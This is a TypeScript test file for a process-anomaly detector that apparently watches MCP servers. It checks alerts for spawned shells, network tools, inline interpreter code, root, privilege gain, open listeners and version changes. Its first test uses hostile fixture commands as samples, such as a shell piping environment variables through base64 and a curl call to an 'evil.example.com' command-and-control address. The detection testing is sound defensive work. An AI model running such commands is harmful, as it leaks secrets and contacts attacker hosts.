import { describe, expect, it } from 'vitest';
import processAnomaly from '../../detectors/process_anomaly/detector.js';
import type { ProcessEvent } from '../../src/pipeline/events.js';
import { SERVER, harness, mcp } from './fake-detector-context.js';

let n = 0;
const proc = (over: Partial<ProcessEvent> & { action: ProcessEvent['action'] }): ProcessEvent => ({
  kind: 'process', id: `p-${(n += 1)}`, time: Date.UTC(2026, 0, 1, 2) + n, server: SERVER, pid: 5000 + n, ppid: 4242, ...over,
});

describe('process_anomaly', () => {
  it('fires on a shell, a network tool and inline interpreter code spawned by a server', () => {
    const h = harness('process_anomaly', processAnomaly);
    h.send(
      proc({ action: 'exec', executable: '/bin/bash', argv: ['bash', '-c', 'env | base64'] }),
      proc({ action: 'exec', executable: '/usr/bin/curl', argv: ['curl', 'https://evil.example.com/c2'] }),
      proc({ action: 'exec', executable: '/usr/bin/python3.12', argv: ['python3', '-c', 'import os'] }),
    );
    expect(h.fired.map((a) => [a.key, a.severity])).toEqual([
      ['shell:bash', 'high'],
      ['network_tool:curl', 'high'],
      ['interpreter:python', 'medium'],
    ]);
  });

  it('fires on root, on gaining root, and on a listener on all interfaces', () => {
    const h = harness('process_anomaly', processAnomaly);
    h.send(
      proc({ action: 'root', uid: 0, euid: 0 }),
      proc({ action: 'uid_change', uid: 1000, euid: 0, previous: { uid: 1000, euid: 1000 } }),
      proc({ action: 'listen', listen: { address: '0.0.0.0', port: 8080, protocol: 'tcp' } }),
    );
    expect(h.fired.map((a) => [a.key, a.severity])).toEqual([
      ['root', 'high'],
      ['uid_change', 'critical'],
      ['listen:tcp:0.0.0.0:8080', 'high'],
    ]);
  });

  it('allowRoot: a server running as root is not reported, gaining root still is', () => {
    const h = harness('process_anomaly', processAnomaly, { allowRoot: true });
    h.send(
      proc({ action: 'root', uid: 0, euid: 0 }),
      proc({ action: 'uid_change', uid: 1000, euid: 0, previous: { uid: 1000, euid: 1000 } }),
    );
    expect(h.fired.map((a) => [a.key, a.severity])).toEqual([['uid_change', 'critical']]);
  });

  it('fires when the executable or version changes between runs, and remembers across restarts', () => {
    const first = harness('process_anomaly', processAnomaly);
    first.send(mcp({ method: 'tools/list', server: { ...SERVER, executable: '/usr/bin/node', version: '1.0.0' } }));
    const state = JSON.parse(JSON.stringify(first.detector.snapshot!())) as unknown;
    const second = harness('process_anomaly', processAnomaly);
    second.detector.restore!(state);
    second.send(mcp({ method: 'tools/list', server: { ...SERVER, executable: '/usr/bin/node', version: '1.0.1' } }));
    expect(second.fired.map((a) => a.summary)).toEqual(['fixture-server now runs with version 1.0.0 -> 1.0.1']);
  });

  it('stays silent on ordinary children, loopback listeners and samples (benign look-alikes)', () => {
    const h = harness('process_anomaly', processAnomaly);
    h.send(
      proc({ action: 'exec', executable: '/usr/bin/node', argv: ['node', 'dist/index.js'] }),
      proc({ action: 'exec', executable: '/usr/bin/git', argv: ['git', 'status'] }),
      proc({ action: 'listen', listen: { address: '127.0.0.1', port: 3001, protocol: 'tcp' } }),
      proc({ action: 'sample', uid: 1000, euid: 1000, cpuPercent: 3 }),
      mcp({ method: 'tools/list', server: { ...SERVER, executable: '/usr/bin/node', version: '1.0.0' } }),
      mcp({ method: 'tools/call', server: { ...SERVER, executable: '/usr/bin/node', version: '1.0.0' } }),
    );
    expect(h.fired).toEqual([]);
  });
});
